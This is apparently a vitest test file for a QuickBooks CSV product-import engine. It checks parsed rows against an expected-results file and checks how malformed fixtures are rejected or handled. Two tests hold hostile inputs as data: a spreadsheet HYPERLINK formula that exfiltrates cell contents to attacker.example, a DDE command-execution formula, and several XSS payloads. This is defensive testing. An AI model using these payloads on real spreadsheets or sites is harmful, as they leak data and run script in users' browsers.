/**
 * The shared QuickBooks fixtures (copied into tests/fixtures/quickbooks) against EXPECTED.md:
 * every row's status, and its category, pack and display name wherever EXPECTED.md gives them;
 * qbo_large.csv's status totals; and what each file in bad/ must get.
 */
import { readFileSync, readdirSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import {
  checkFileSize,
  MAX_IMPORT_FILE_BYTES,
  planImport,
  understandFile,
  type PipelineResult,
  type UnderstoodRow,
} from "~/features/imports/engine";

const DIR = path.resolve("tests/fixtures/quickbooks");
const read = (name: string) => readFileSync(path.join(DIR, name));
const EXPECTED = readFileSync(path.join(DIR, "EXPECTED.md"), "utf8");

/** The rows of the first table after `heading` in EXPECTED.md, keyed by its header cells. */
function expectedTable(heading: string) {
  const lines = EXPECTED.slice(EXPECTED.indexOf(heading)).split("\n");
  const start = lines.findIndex((l) => l.startsWith("| "));
  const header = lines[start].split("|").map((c) => c.trim());
  const rows: Array<Record<string, string>> = [];
  for (const line of lines.slice(start + 2)) {
    if (!line.startsWith("|")) break;
    const cells = line.split("|").map((c) => c.trim());
    rows.push(Object.fromEntries(header.map((h, i) => [h, cells[i]])));
  }
  return rows;
}

async function understood(name: string) {
  const result = await understandFile(read(name));
  if (!result.ok) throw new Error(`${name}: ${JSON.stringify(result.rejection)}`);
  return result;
}

type Expected = Record<string, string>;

/**
 * Where a buyer would file a row differently from EXPECTED.md (the fixtures' README: eggs from
 * Chile, COCO SECO, TOMATE DE ÁRBOL, produce the keyword list lacks). The three small files have
 * no such row: every category, pack and name there is a buyer's too, so this stays empty.
 */
const SMALL_FILE_EXCEPTIONS: Record<string, Partial<Pick<UnderstoodRow, "category">>> = {};

function compareRows(file: string, rows: UnderstoodRow[], expected: Expected[]) {
  expect(rows.map((r) => r.row)).toEqual(expected.map((e) => Number(e["#"])));
  for (const [i, row] of rows.entries()) {
    const e = expected[i];
    const where = `${file} row ${row.row} (${row.item})`;
    expect(row.line, where).toBe(Number(e.line));
    expect(row.status, where).toBe(e.Expected);
    if (e.Category)
      expect(row.category, where).toBe(SMALL_FILE_EXCEPTIONS[`${file}:${row.row}`]?.category ?? e.Category);
    if (e["Pack value"])
      expect([row.packValue, row.packUnit], where).toEqual([Number(e["Pack value"]), e["Pack unit"]]);
    if (e["Display name (EN)"]) expect(row.name, where).toBe(e["Display name (EN)"]);
    if (row.importable) expect(row.nameEs, where).toBeTruthy();
  }
}

describe("qbo_small.csv, qbd_small.csv and the newer QBO header wording", () => {
  const qboExpected = expectedTable("## qbo_small.csv");
  const qbdExpected = expectedTable("## qbd_small.csv");

  it("qbo_small.csv: every row as EXPECTED.md says", async () => {
    const result = await understood("qbo_small.csv");
    expect(result).toMatchObject({ encoding: "utf-8", format: { id: "qbo_classic" }, totalRows: 69 });
    compareRows("qbo_small.csv", result.rows, qboExpected);
  });

  it("qbd_small.csv: every row as EXPECTED.md says", async () => {
    const result = await understood("qbd_small.csv");
    expect(result).toMatchObject({ format: { id: "qbd_item_list", system: "qbd" }, totalRows: 69 });
    compareRows("qbd_small.csv", result.rows, qbdExpected);
  });

  it("variants/qbo_small_new_headers.csv: the same rows and expectations as qbo_small.csv", async () => {
    const result = await understood("variants/qbo_small_new_headers.csv");
    expect(result.format.id).toBe("qbo_new");
    compareRows("qbo_small_new_headers.csv", result.rows, qboExpected);
  });

  it("TOMATILLO twice: one catalogue entry, the last row's (25 lb, $21.00), and a duplicate warning", async () => {
    const { rows } = await understood("qbo_small.csv");
    const tomatillos = rows.filter((r) => r.quickbooksId === "TOMATILLO");
    expect(tomatillos.map((r) => r.row)).toEqual([19, 32]);
    expect(tomatillos[1]).toMatchObject({ packValue: 25, packUnit: "lb", priceCents: 2100 });
    expect(tomatillos[1].messages).toContainEqual({
      code: "duplicate_item",
      severity: "warning",
      params: { item: "TOMATILLO", firstRow: 19 },
    });
    const plan = planImport(rows);
    expect(plan.results[18]).toMatchObject({
      row: 19,
      action: "duplicate",
      messages: [{ code: "duplicate_superseded", params: { row: 32 } }],
    });
    expect(plan.counts).toMatchObject({ total: 69, new: 48, inactive: 2, errors: 0 });
    expect(plan.counts.skipped).toEqual({ total: 1, duplicate: 1, byStaff: 0 });
    expect(plan.counts.invalid).toEqual({
      total: 20,
      serviceItem: 5,
      knownNonProductCode: 7,
      invalidDescription: 8,
    });
  });

  it("QBD items sharing a leaf are different items: the key is the full path", async () => {
    const { rows } = await understood("qbd_small.csv");
    const limes = rows.filter((r) => r.quickbooksId?.endsWith("LIMON 175"));
    expect(limes.map((r) => r.quickbooksId)).toEqual(["FRUTAS:CITRICOS:LIMON 175", "OFERTAS:LIMON 175"]);
    expect(limes.every((r) => r.messages.every((m) => !m.code.startsWith("duplicate")))).toBe(true);
  });
});

/**
 * EXPECTED.md's category rule, word for word (whole words, accents folded, plurals allowed): the
 * keyword baseline qbo_large.csv's category totals follow. The test checks it reproduces them.
 */
function baselineCategory(description: string) {
  const text = ` ${description
    .normalize("NFD")
    .replace(/[\u0300-\u036f]/g, "")
    .toUpperCase()
    .replace(/[^A-Z0-9]+/g, " ")} `;
  const has = (words: string) =>
    words.split("|").some((w) => new RegExp(` ${w.replace(/Y$/, "(?:Y|IE)")}(?:S|ES)? `).test(text));
  if (has("GREEN BEAN|EJOTE")) return "vegetables";
  if (
    has(
      "SECO|DRIED|GUAJILLO|ANCHO|PASILLA|ARBOL|CHIPOTLE|MORITA|MULATO|CASCABEL|FRIJOL|BEAN|LENTEJA|GARBANZO|JAMAICA|HIBISCUS|HOJA PARA TAMAL|CORN HUSK",
    )
  )
    return "dry_produce";
  if (
    has(
      "CILANTRO|PEREJIL|PARSLEY|EPAZOTE|HIERBABUENA|MINT|ALBAHACA|BASIL|PAPALO|ROMERO|ROSEMARY|TOMILLO|THYME|DILL|ENELDO|HOJA SANTA",
    )
  )
    return "herbs";
  if (
    has(
      "AGUACATE|AVOCADO|MANGO|LIMON|LIME|LEMON|NARANJA|ORANGE|PINA|PINEAPPLE|PAPAYA|PLATANO|PLANTAIN|BANANA|FRESA|STRAWBERRY|BLUEBERRY|ARANDANO|CANTALOUPE|MELON|SANDIA|WATERMELON|TUNA|PRICKLY PEAR|COCO|COCONUT|GUAYABA|GUAVA|KIWI|GRAPE|UVA",
    )
  )
    return "fruits";
  if (
    has(
      "TOMATE|TOMATO|TOMATILLO|CHILE|JALAPENO|SERRANO|POBLANO|GUERO|PEPPER|PIMIENTO|CEBOLLA|ONION|PAPA|POTATO|NOPAL|CHAYOTE|JICAMA|ELOTE|CORN|CALABACITA|SQUASH|LECHUGA|LETTUCE|BROCCOLI|YUCA|CASSAVA|JENGIBRE|GINGER|REPOLLO|CABBAGE|ZANAHORIA|CARROT",
    )
  )
    return "vegetables";
  return "others";
}

describe("qbo_large.csv (60,000 rows)", () => {
  let result: Extract<PipelineResult, { ok: true }>;
  const load = async () => (result ??= await understood("qbo_large.csv"));

  it("has EXPECTED.md's status totals", async () => {
    const { rows, totalRows } = await load();
    expect(totalRows).toBe(60_000);
    const totals: Record<string, number> = {};
    for (const row of rows) totals[row.status] = (totals[row.status] ?? 0) + 1;
    const expected: Record<string, number> = {};
    for (const e of expectedTable("## qbo_large.csv")) {
      const status = e["Classification / category"].split(" / ")[0];
      if (!/^[a-z_]+$/.test(status)) continue;
      expected[status] = (expected[status] ?? 0) + Number(e.rows.replace(/,/g, ""));
    }
    expect(totals).toEqual(expected);
    expect(rows.filter((r) => r.importable && !r.recognized)).toEqual([]);
  });

  it("files by the keyword baseline except where a buyer disagrees: goods from Chile are not peppers", async () => {
    const { rows } = await load();
    const importable = rows.filter((r) => r.importable);
    // The baseline itself: it reproduces EXPECTED.md's category totals.
    const baseline: Record<string, number> = {};
    for (const row of importable) {
      const key = `${row.status} / ${baselineCategory(row.description)}`;
      baseline[key] = (baseline[key] ?? 0) + 1;
    }
    const expected = Object.fromEntries(
      expectedTable("## qbo_large.csv")
        .filter((e) => e["Classification / category"].includes(" / "))
        .map((e) => [e["Classification / category"], Number(e.rows.replace(/,/g, ""))]),
    );
    expect(baseline).toEqual(expected);

    // The baseline reads the origin CHILE ("… 15 DZ CHILE LOT 2231") as a pepper keyword, so it
    // files eggs, queso fresco, tortillas and piloncillo from Chile under vegetables. A buyer files
    // them under others, and so does the engine; that is the only place the two differ.
    const disagreements = importable.filter((r) => r.category !== baselineCategory(r.description));
    expect(disagreements).toHaveLength(229);
    for (const row of disagreements) {
      const where = `row ${row.row}: ${row.description}`;
      expect(row.description, where).toMatch(/\bCHILE LOT \d+/i);
      expect([baselineCategory(row.description), row.category], where).toEqual(["vegetables", "others"]);
      expect(row.name, where).toMatch(/Eggs|Queso Fresco|Tortillas|Piloncillo/);
    }
  });

  it("plans every unique item as new, none twice", async () => {
    const { rows } = await load();
    expect(planImport(rows).counts).toMatchObject({ total: 60_000, new: 59_024, inactive: 1_182, errors: 0 });
  });
});

describe("bad/: every file gets what EXPECTED.md says", () => {
  const rejected = async (name: string) => {
    const result = await understandFile(read(`bad/${name}`));
    if (result.ok) throw new Error(`${name} was accepted`);
    return { stage: result.stage, rejection: result.rejection };
  };

  it("covers every file in bad/ (too_large_11mb.csv is built in memory, see COPIED.md)", () => {
    expect(readdirSync(path.join(DIR, "bad")).sort()).toEqual([
      "binary_random.csv",
      "binary_xlsx_renamed.csv",
      "bom_only.csv",
      "csv_injection.csv",
      "empty.csv",
      "header_only.csv",
      "long_name_5000.csv",
      "semicolon_delimiter.csv",
      "unclosed_quote.csv",
      "utf16le_bom.csv",
      "utf16le_tab_unicode_text.csv",
      "windows1252_accents.csv",
      "xss_name.csv",
    ]);
  });

  it("empty.csv and bom_only.csv: rejected as empty", async () => {
    expect(await rejected("empty.csv")).toEqual({ stage: "decode", rejection: { code: "empty_file" } });
    expect(await rejected("bom_only.csv")).toEqual({ stage: "decode", rejection: { code: "empty_file" } });
  });

  it("header_only.csv: accepted with no data rows", async () => {
    const result = await understood("bad/header_only.csv");
    expect(result).toMatchObject({ totalRows: 0, rows: [] });
  });

  it("unclosed_quote.csv: rejected naming line 4, and no rows reach a writer", async () => {
    const delivered: number[] = [];
    const result = await understandFile(read("bad/unclosed_quote.csv"), {
      onBatch: (rows) => void delivered.push(...rows.map((r) => r.row)),
    });
    expect(result).toEqual({ ok: false, stage: "parse", rejection: { code: "unclosed_quote", line: 4 } });
    expect(delivered).toEqual([]);
  });

  it("semicolon_delimiter.csv: required columns not found, with the semicolon hint", async () => {
    expect(await rejected("semicolon_delimiter.csv")).toEqual({
      stage: "detect",
      rejection: { code: "columns_not_found", missing: ["name", "description", "price"], semicolons: true },
    });
  });

  it("binary_xlsx_renamed.csv: not a CSV but a spreadsheet; binary_random.csv: not text", async () => {
    expect(await rejected("binary_xlsx_renamed.csv")).toEqual({
      stage: "decode",
      rejection: { code: "spreadsheet_not_csv" },
    });
    expect(await rejected("binary_random.csv")).toEqual({ stage: "decode", rejection: { code: "not_text" } });
  });

  it("too_large_11mb.csv: rejected on its size, before parsing", async () => {
    const header = read("qbo_small.csv").toString("utf8").split("\r\n")[0];
    const row =
      'BPR-25LB-HOND-00001,"PEPPER, BELL RED JBO 25LB HOND LOT 9624",BPR00001,Inventory,36.42,No,Sales of Product Income,,25.99,Cost of Goods Sold,"1,809",177,Inventory Asset,01/02/2025\r\n';
    const text = `${header}\r\n${row.repeat(70_700)}`;
    const bytes = new TextEncoder().encode(text);
    expect(bytes.length).toBeGreaterThan(11 * 1024 * 1024);
    expect(checkFileSize(bytes.length)).toMatchObject({ code: "file_too_large", maxBytes: MAX_IMPORT_FILE_BYTES });
    expect(await understandFile(bytes)).toMatchObject({
      ok: false,
      stage: "decode",
      rejection: { code: "file_too_large" },
    });
  });

  it("utf16le_bom.csv and utf16le_tab_unicode_text.csv: the same 15 rows as qbo_small.csv, no NUL", async () => {
    const small = (await understood("qbo_small.csv")).rows.slice(0, 15);
    const view = (r: UnderstoodRow) => [
      r.item,
      r.status,
      r.name,
      r.nameEs,
      r.category,
      r.packValue,
      r.packUnit,
      r.priceCents,
      r.sku,
    ];
    for (const name of ["bad/utf16le_bom.csv", "bad/utf16le_tab_unicode_text.csv"]) {
      const result = await understood(name);
      expect(result.encoding, name).toBe("utf-16le");
      expect(result.rows.map(view), name).toEqual(small.map(view));
      expect(JSON.stringify(result.rows.map((r) => r.raw.cells)).includes("\\u0000"), name).toBe(false);
    }
    expect((await understood("bad/utf16le_tab_unicode_text.csv")).format.delimiter).toBe("\t");
  });

  it("windows1252_accents.csv: decoded as Windows-1252 into 6 products, never PIÃ‘A", async () => {
    const result = await understood("bad/windows1252_accents.csv");
    expect(result.encoding).toBe("windows-1252");
    expect(result.rows.map((r) => [r.item, r.status, r.name, r.packValue, r.packUnit])).toEqual([
      ["PIÑA 6", "product", "Golden Pineapple", 6, "ct"],
      ["JICAMA", "product", "Jicama", 40, "lb"],
      ["CH ARBOL", "product", "Dried Arbol Chile", 1, "kg"],
      ["GUERO", "product", "Güero Pepper", 10, "lb"],
      ["PAPALO", "product", "Papalo", 24, "ct"],
      ["LIMON 200", "product", "Persian Lime", 200, "ct"],
    ]);
    expect(result.rows[2].description).toBe("Chile de Árbol – 1 kg");
    expect(result.rows[4].description).toBe("PÁPALO 24CT ‘fresco’");
    expect(JSON.stringify(result.rows.map((r) => r.raw.cells))).not.toMatch(/Ã|\ufffd/);
  });

  it("csv_injection.csv: formulas stay literal text, formula descriptions are not products, prices are numbers", async () => {
    const { rows } = await understood("bad/csv_injection.csv");
    expect(rows[0]).toMatchObject({
      item: '=HYPERLINK("http://attacker.example/?d="&A1,"Click for price list")',
      quickbooksId: '=HYPERLINK("http://attacker.example/?d="&A1,"Click for price list")',
      status: "product",
      name: "Hass Avocado",
      priceCents: 1000,
    });
    expect(rows[7]).toMatchObject({ item: "=cmd|' /C notepad'!'A1'", status: "product", name: "Dried Guajillo Chile" });
    expect(rows.slice(1, 7).map((r) => r.status)).toEqual(Array(6).fill("skipped_invalid_description"));
    expect(rows[8]).toMatchObject({ item: "DISCOUNT", status: "skipped_known_non_product_code" });
    for (const row of rows) if (row.name) expect(row.name).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("xss_name.csv: markup stays literal in the item and SKU, and never reaches a display name", async () => {
    const { rows } = await understood("bad/xss_name.csv");
    expect(rows.map((r) => [r.quickbooksId, r.sku, r.name])).toEqual([
      ["<img src=x onerror=alert(1)>", "TOM-R25", "Roma Tomato"],
      ["TOM ROMA 26", "TOM-R26", "Roma Tomato"],
      ['"><svg/onload=alert(document.domain)>', "javascript:alert(1)", "Cilantro"],
      ["AVO &lt;b&gt;48&lt;/b&gt;", "AVO-48", "Hass Avocado"],
    ]);
    expect(rows[1].description).toBe('<script>alert("xss")</script> TOMATO ROMA 25LB');
  });

  it("long_name_5000.csv: the 5,000-character name is cut with a warning, the long description read", async () => {
    const { rows } = await understood("bad/long_name_5000.csv");
    expect(rows[0].quickbooksId!.length).toBeLessThanOrEqual(200);
    expect(rows[0].messages.map((m) => m.code)).toContain("item_name_truncated");
    expect(rows[1].messages.map((m) => m.code)).toContain("description_truncated");
    expect(rows.map((r) => [r.status, r.name, r.packValue, r.packUnit])).toEqual([
      ["product", "Hass Avocado", 48, "ct"],
      ["product", "Hass Avocado", 48, "ct"],
    ]);
  });
});
